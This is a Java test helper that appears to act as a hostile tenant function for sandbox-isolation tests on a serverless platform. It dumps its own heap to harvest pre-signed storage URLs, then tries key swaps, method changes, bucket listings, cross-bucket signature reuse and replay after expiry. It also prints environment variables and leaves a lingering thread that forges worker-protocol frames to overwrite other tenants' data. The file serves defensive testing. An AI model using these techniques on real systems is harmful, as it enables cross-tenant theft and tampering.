package dev.quarry.server.testfns;

import com.sun.management.HotSpotDiagnosticMXBean;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * A hostile tenant's function that goes after the storage grants of its own invocation, used by
 * {@code LambdaSandboxAttackTest} and {@code WorkerSandboxAttackTest}. On Lambda it finds the
 * pre-signed URLs its worker holds by dumping its own heap and searching it, then tries to turn
 * them into more: other keys, other methods, listings, and the same URLs again once they expired.
 * On a local worker ({@code linger}) it leaves a thread that writes storage calls onto the worker's
 * pipe after its invocation ended. Input {@code {"attack": name, "targets": [keys]}} (and for
 * {@code abuse}, {@code "buckets": [names]}: other buckets to try each URL's signature, own key and
 * the targets in); the answer is {@code "LEAK: <what worked>"} when any attempt got a 2xx answer,
 * {@code "BLOCKED: ..."} with the count of attempts and URLs when none did, and {@code "NOGRANT"}
 * when it found no URL.
 */
public class GrantAttack implements Function<Object, Object> {
  private static final Pattern PRESIGNED =
      Pattern.compile("https?://[!#-&(-;=?-\\[\\]-~]+?X-Amz-Signature=[0-9a-f]{64}");
  private static final Pattern UUID_TEXT =
      Pattern.compile("[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}");
  private static final HttpClient HTTP =
      HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

  /** URLs captured by an earlier invocation in this worker JVM. */
  private static final List<String> CAPTURED = new CopyOnWriteArrayList<>();

  @Override
  public Object apply(Object input) {
    @SuppressWarnings("unchecked")
    Map<String, Object> in = (Map<String, Object>) input;
    String attack = (String) in.get("attack");
    @SuppressWarnings("unchecked")
    List<String> targets = (List<String>) in.getOrDefault("targets", List.of());
    try {
      return switch (attack) {
        case "env" ->
            "ENV: " + new TreeMap<>(System.getenv()) + "\nPROPS: " + System.getProperties();
        case "abuse" -> {
          @SuppressWarnings("unchecked")
          List<String> buckets = (List<String>) in.getOrDefault("buckets", List.of());
          yield abuse(harvest(), targets, (String) in.getOrDefault("self", "tenants/"), buckets);
        }
        case "capture" -> capture();
        case "replay" -> replay(String.valueOf(in.get("job")));
        case "linger" -> linger(targets);
        default -> throw new IllegalArgumentException("unknown attack " + attack);
      };
    } catch (Exception e) {
      return "ERROR: " + e;
    }
  }

  /** This JVM's live heap, dumped and read as Latin-1 text. */
  private static String heapText() throws IOException {
    Path dump = Files.createTempFile("heap", ".hprof");
    Files.delete(dump);
    try {
      ManagementFactory.getPlatformMXBean(HotSpotDiagnosticMXBean.class)
          .dumpHeap(dump.toString(), true);
      return new String(Files.readAllBytes(dump), StandardCharsets.ISO_8859_1);
    } finally {
      Files.deleteIfExists(dump);
    }
  }

  /** Every pre-signed URL in this JVM's heap. */
  static List<String> harvest() throws IOException {
    Set<String> urls = new LinkedHashSet<>();
    Matcher m = PRESIGNED.matcher(heapText());
    while (m.find()) {
      String url = m.group();
      url = url.substring(url.lastIndexOf("http")); // not a neighbouring string's start
      try {
        if (URI.create(url).getRawPath().contains("/tenants/")) {
          urls.add(url);
        }
      } catch (IllegalArgumentException e) {
        // a fragment, not a URL
      }
    }
    return List.copyOf(urls);
  }

  /**
   * Other keys, other methods, listings and no signature, with each URL this JVM holds; a URL of
   * another tenant ({@code self} is the attacker's own prefix) is used as it is.
   */
  private static String abuse(
      List<String> urls, List<String> targets, String self, List<String> otherBuckets)
      throws Exception {
    if (urls.isEmpty()) {
      return "NOGRANT";
    }
    List<String> leaks = new ArrayList<>();
    List<String> held = new ArrayList<>();
    int attempts = 0;
    for (String url : urls) {
      URI u = URI.create(url);
      String path = u.getRawPath();
      int keyStart = path.indexOf("/tenants/");
      String bucketPath = path.substring(0, keyStart); // "/bucket" (+ the store's prefix)
      String ownKey = path.substring(keyStart + 1);
      held.add(ownKey);
      String origin = u.getScheme() + "://" + u.getRawAuthority();
      String query = u.getRawQuery();
      if (!ownKey.startsWith(self)) {
        attempts += 2;
        record(leaks, "GET", url, null);
        record(leaks, "PUT", url, "overwritten by tenant B");
      }
      for (String target : targets) {
        if (target.equals(ownKey)) {
          continue; // that is the URL's own object: not an escalation
        }
        String swapped = origin + bucketPath + "/" + target + "?" + query;
        attempts += 3;
        record(leaks, "GET", swapped, null);
        record(leaks, "PUT", swapped, "overwritten by tenant B");
        record(leaks, "GET", origin + bucketPath + "/" + target, null);
      }
      for (String other : otherBuckets) {
        // the same signature on another bucket: its own key there, then every target there
        String there = origin + "/" + other + "/";
        attempts += 4;
        record(leaks, "GET", there + ownKey + "?" + query, null);
        record(leaks, "PUT", there + ownKey + "?" + query, "overwritten by tenant B");
        record(leaks, "GET", origin + "/" + other + "?list-type=2&prefix=tenants/&" + query, null);
        record(leaks, "GET", origin + "/" + other + "?list-type=2&prefix=tenants/", null);
        for (String target : targets) {
          attempts += 2;
          record(leaks, "GET", there + target + "?" + query, null);
          record(leaks, "PUT", there + target + "?" + query, "overwritten by tenant B");
        }
      }
      int slash = bucketPath.indexOf('/', 1);
      String bucket = origin + (slash < 0 ? bucketPath : bucketPath.substring(0, slash));
      for (String listing :
          List.of(
              bucket + "?list-type=2&prefix=tenants/&" + query,
              bucket + "/?" + query,
              bucket + "?" + query,
              bucket + "?list-type=2&prefix=tenants/")) {
        attempts++;
        record(leaks, "GET", listing, null);
      }
      attempts++;
      if (isWrite(path)) {
        record(leaks, "GET", url, null); // a write URL does not read
      } else {
        record(leaks, "PUT", url, "overwritten by tenant B"); // a read URL does not write
      }
    }
    return (leaks.isEmpty() ? "BLOCKED: " : "LEAK: " + leaks + " ")
        + attempts
        + " attempts with "
        + urls.size()
        + " URLs; held "
        + held;
  }

  private static String capture() throws IOException {
    List<String> urls = harvest();
    CAPTURED.addAll(urls);
    return "CAPTURED " + urls.size() + " " + urls;
  }

  /** The invocation's write URLs: its tasks' results and logs. */
  private static boolean isWrite(String path) {
    return path.contains("/results/") || path.contains("/logs/");
  }

  /** The captured URLs used as they are: GET the read ones, PUT over the results and logs. */
  private static String replay(String job) throws Exception {
    List<String> urls = CAPTURED.stream().filter(u -> u.contains("/jobs/" + job + "/")).toList();
    if (urls.isEmpty()) {
      return "NOGRANT";
    }
    List<String> leaks = new ArrayList<>();
    for (String url : urls) {
      if (isWrite(URI.create(url).getRawPath())) {
        record(leaks, "PUT", url, "overwritten after expiry");
      } else {
        record(leaks, "GET", url, null);
      }
    }
    return (leaks.isEmpty() ? "BLOCKED: " : "LEAK: " + leaks + " ")
        + urls.size()
        + " captured URLs replayed";
  }

  /**
   * On a local worker: leaves a thread that, once this invocation has ended, writes storage calls
   * straight onto the worker's protocol pipe (fd 1), naming every invocation id found in the heap
   * (this one's included), to overwrite each target.
   */
  private static String linger(List<String> targets) throws IOException {
    Set<String> ids = new LinkedHashSet<>();
    Matcher m = UUID_TEXT.matcher(heapText());
    while (m.find()) {
      ids.add(m.group());
    }
    Thread.ofPlatform()
        .daemon()
        .start(
            () -> {
              try {
                Thread.sleep(1_500); // the invocation has ended and its summary is sent
                java.io.FileOutputStream pipe =
                    new java.io.FileOutputStream(java.io.FileDescriptor.out);
                long callId = 1L << 40;
                for (String id : ids) {
                  for (String target : targets) {
                    // the worker's classes are not visible to tenant code: the protocol by hand
                    pipe.write(
                        storageWrite(callId++, id, target)); // one write: the frame stays whole
                  }
                }
              } catch (Exception | LinkageError e) {
                // nothing to report to: the invocation is over
              }
            });
    return "LINGERING with " + ids.size() + " ids";
  }

  /** A length-delimited {@code FromWorker{call: StorageCall{OP_WRITE}}}, encoded by hand. */
  private static byte[] storageWrite(long callId, String invocation, String key) {
    java.io.ByteArrayOutputStream call = new java.io.ByteArrayOutputStream();
    call.write(0x08); // call_id
    varint(call, callId);
    bytesField(call, 0x12, invocation.getBytes(StandardCharsets.UTF_8)); // invocation_id
    call.write(0x18); // op
    varint(call, 2); // OP_WRITE
    bytesField(call, 0x22, key.getBytes(StandardCharsets.UTF_8)); // key
    bytesField(call, 0x3a, "overwritten after the invocation".getBytes(StandardCharsets.UTF_8));
    java.io.ByteArrayOutputStream message = new java.io.ByteArrayOutputStream();
    bytesField(message, 0x12, call.toByteArray()); // FromWorker.call
    java.io.ByteArrayOutputStream frame = new java.io.ByteArrayOutputStream();
    varint(frame, message.size());
    frame.writeBytes(message.toByteArray());
    return frame.toByteArray();
  }

  private static void bytesField(java.io.ByteArrayOutputStream out, int tag, byte[] value) {
    out.write(tag);
    varint(out, value.length);
    out.writeBytes(value);
  }

  private static void varint(java.io.ByteArrayOutputStream out, long value) {
    while ((value & ~0x7FL) != 0) {
      out.write((int) ((value & 0x7F) | 0x80));
      value >>>= 7;
    }
    out.write((int) value);
  }

  private static void record(List<String> leaks, String method, String url, String body)
      throws Exception {
    HttpRequest.Builder request =
        HttpRequest.newBuilder(URI.create(url)).timeout(Duration.ofSeconds(10));
    request.method(
        method,
        body == null
            ? HttpRequest.BodyPublishers.noBody()
            : HttpRequest.BodyPublishers.ofString(body));
    int status = HTTP.send(request.build(), HttpResponse.BodyHandlers.discarding()).statusCode();
    if (status / 100 == 2) {
      leaks.add(method + " " + status + " " + url.replaceFirst("\\?.*", ""));
    }
  }
}
